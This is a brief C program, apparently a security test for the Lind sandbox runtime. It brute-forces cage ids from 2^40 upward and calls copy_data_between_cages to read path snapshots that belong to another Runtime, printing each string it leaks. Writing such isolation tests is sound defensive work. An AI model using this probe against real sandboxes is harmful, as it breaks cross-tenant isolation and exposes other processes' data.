/* Reads another Runtime's snapshots: the copies a Python grate made of what it read
 * (a path) for the layers below, which have ids of the process's own, from 2^40 up,
 * and count as children of the cage they were made for, whose id (1) this cage has
 * too in its own Runtime. argv[1] is the guest address the copy stands at, argv[2]
 * how many ids to try. Prints "leaked TEXT" per snapshot read, then "tried N". */
#include <errno.h>
#include <lind_syscall.h>
#include <stdio.h>
#include <stdlib.h>
#include <unistd.h>

int main(int argc, char **argv)
{
	uint64_t origin = strtoull(argv[1], NULL, 10), me = getpid();
	long count = atol(argv[2]);
	static char buf[65];
	for (long i = 0; i < count; i++) {
		uint64_t id = (1ULL << 40) + (uint64_t)i;
		/* the longest read that fits the copy (the name's length is not known) */
		for (uint64_t len = 64; len > 0; len--) {
			int r = copy_data_between_cages(me, id, origin, id, (uint64_t)(uintptr_t)buf,
			                                me, len, COPY_RAW);
			if (r >= 0) {
				buf[len] = 0;
				printf("leaked %s\n", buf);
				break;
			}
			if (errno == ESRCH || errno == EPERM)
				break;          /* no such cage here: the usual answer */
		}
	}
	printf("tried %ld\n", count);
	return 0;
}
